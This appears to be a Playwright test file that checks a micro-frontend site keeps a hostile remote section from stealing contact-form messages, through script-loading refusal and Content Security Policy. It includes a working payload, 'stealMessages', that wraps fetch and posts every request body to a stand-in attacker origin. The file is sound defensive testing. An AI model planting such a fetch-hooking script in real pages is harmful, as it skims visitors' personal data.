import { HostileCdn, RENDER_THROWS } from '@portico/testing/hostile-builds';
import type { Page } from '@playwright/test';
import { serverStoresMessages, watchContactPosts } from '../support/contact-api';
import { expect, serve, siteRemotes, test, workerPorts, writeConfig, type PorticoSite } from '../support/fixtures';
import { expectHydrated } from '../support/page-clock';

// Issue 46, "Home's script takes the contact message": a Home build whose
// manifest declares `hydration: { mode: 'interactive', when: ['load'] }` and
// wraps `fetch` received the whole message on its own origin. Whether a
// section runs script in the browser is now the integrator's grant (Home:
// static): served anyway, from config.json or a visit's override, its
// script is never loaded (the page's loader refuses it, the page's CSP
// names its origin in no script-src), and no page may connect to any
// origin but its own. Checked to fail before the change: with the grant
// given (the last test) the same script runs and is seen running.

const SLOT = 7;
const MESSAGE = 'My PAN is ABCDE1234F';

let cdn: HostileCdn;
test.beforeAll(async () => {
  cdn = await HostileCdn.start();
});
test.afterAll(async () => {
  await cdn.close();
});

/**
 * The hostile Home's browser code: it says it ran (an image, which no
 * connect-src governs), links a stylesheet its manifest does not name from
 * its own origin, then wraps `fetch` and sends every body the page sends to
 * its own origin.
 */
const stealMessages = (origin: string) => `;(function () {
  new Image().src = ${JSON.stringify(`${origin}/ran.gif`)};
  const sheet = document.createElement('link');
  sheet.rel = 'stylesheet';
  sheet.href = ${JSON.stringify(`${origin}/unlisted.css`)};
  document.head.appendChild(sheet);
  const real = window.fetch;
  window.fetch = function (input, init) {
    if (init && init.body) real(${JSON.stringify(`${origin}/leak`)}, { method: 'POST', mode: 'no-cors', body: String(init.body) }).catch(() => {});
    return real.apply(this, arguments);
  };
})();`;

/** Home published by its hostile team as `variant` (its node build throwing, when `leftToBrowser`: the server then leaves it to the browser). */
function hostileHome(variant: string, leftToBrowser: boolean): string {
  const url = cdn.publish(variant, 'remote-home', leftToBrowser ? RENDER_THROWS : '');
  cdn.scripted(variant, stealMessages(cdn.origin), { mode: 'interactive', when: ['load'] });
  return url;
}

async function siteWith(parallelIndex: number, config: Record<string, unknown>): Promise<PorticoSite & { close(): Promise<void> }> {
  const basePort = workerPorts(parallelIndex, SLOT);
  return serve(basePort, writeConfig(basePort, config));
}

/** What reached the hostile origin from the visitor's browser, beyond the manifest and node build the server fetched. */
const fromBrowser = (variant: string) =>
  cdn.requests.filter((request) => request.startsWith('/leak') || request.startsWith('/ran') || request.startsWith(`/${variant}/remoteEntry`));

/** A visitor sends Contact a message: it is posted to the page's own origin, and nowhere else. */
async function sendMessage(page: Page, url: string): Promise<void> {
  await serverStoresMessages(page);
  const posts = watchContactPosts(page);
  await page.goto(url);
  await page.getByRole('tab', { name: 'Contact us' }).click();
  const contact = page.getByRole('tabpanel', { name: 'Contact us' });
  await expectHydrated(contact.getByRole('button', { name: 'Send message' }));
  await contact.getByLabel('Name').fill('Asha');
  await contact.getByLabel('Telephone').fill('+91 98765 43210');
  await contact.getByLabel('Message').fill(MESSAGE);
  await contact.getByRole('button', { name: 'Send message' }).click();
  await expect.poll(() => posts.length).toBe(1);
  expect(new URL(posts[0]!.url).origin).toBe(new URL(url).origin);
}

/**
 * The page's CSP: no connection to anything but the page's own origin, and
 * no script from the hostile origin where it is only a section's configured
 * remote (an allowedRemoteOrigins entry may serve any section, Contact
 * included, so it stays in script-src: there the loader's refusal holds).
 */
async function expectPolicyForbids(site: PorticoSite, search = ''): Promise<void> {
  const policy = (await fetch(`${site.url}${search}`)).headers.get('content-security-policy') ?? '';
  const directive = (name: string) => policy.split('; ').find((part) => part.startsWith(`${name} `));
  if (search === '') expect(directive('script-src')).not.toContain(cdn.origin);
  expect(directive('connect-src')).toBe("connect-src 'self'");
}

test('a hostile Home from config.json, left to the browser (its node build throws): its script never runs, the message never reaches its origin, Home shows its alert', async ({
  page,
}, testInfo) => {
  const variant = 'config-home';
  const site = await siteWith(testInfo.parallelIndex, {
    remotes: { ...siteRemotes(workerPorts(testInfo.parallelIndex, SLOT)), home: hostileHome(variant, true) },
  });
  try {
    await expectPolicyForbids(site);
    await sendMessage(page, site.url);
    await page.getByRole('tab', { name: 'Home' }).click();
    await expect(page.getByRole('tabpanel', { name: 'Home' }).getByRole('alert')).toContainText('The Home section could not be loaded.');
    expect(fromBrowser(variant)).toEqual([]);
  } finally {
    await site.close();
  }
});

test('a hostile Home asked for by a visit (?remote.home= from an allowed origin): its script never runs, the message never reaches its origin', async ({
  page,
}, testInfo) => {
  const variant = 'override-home';
  const site = await siteWith(testInfo.parallelIndex, { allowedRemoteOrigins: [cdn.origin] });
  try {
    const search = `?remote.home=${encodeURIComponent(hostileHome(variant, false))}`;
    await expectPolicyForbids(site, search);
    await sendMessage(page, `${site.url}${search}`);
    expect(fromBrowser(variant)).toEqual([]);
  } finally {
    await site.close();
  }
});

test('the same Home granted script by the integrator: its script runs (the test sees it), and still sends nothing to its origin (connect-src) nor links unlisted CSS from it (style-src)', async ({
  page,
}, testInfo) => {
  const variant = 'granted-home';
  const remotes = { ...siteRemotes(workerPorts(testInfo.parallelIndex, SLOT)), home: hostileHome(variant, false) };
  const site = await siteWith(testInfo.parallelIndex, { remotes, sections: { home: { interactive: true } } });
  try {
    const blocked: string[] = [];
    page.on('console', (line) => line.text().includes('Content Security Policy') && blocked.push(line.text()));
    await sendMessage(page, site.url);
    await expect.poll(() => cdn.requests.filter((request) => request === '/ran.gif').length).toBe(1);
    // The leak is tried, and the browser refuses it (connect-src 'self'): with Home's origin in connect-src (before), it arrived and no violation was reported.
    await expect.poll(() => blocked).toEqual(expect.arrayContaining([expect.stringContaining(`${cdn.origin}/leak`)]));
    expect(cdn.requests.filter((request) => request.startsWith('/leak'))).toEqual([]);
    // Its unlisted stylesheet too (style-src 'self': every section's styles are the page's scoped copies); with its origin in style-src it was fetched.
    expect(blocked).toEqual(expect.arrayContaining([expect.stringContaining(`${cdn.origin}/unlisted.css`)]));
    expect(cdn.requests.filter((request) => request.startsWith('/unlisted'))).toEqual([]);
  } finally {
    await site.close();
  }
});
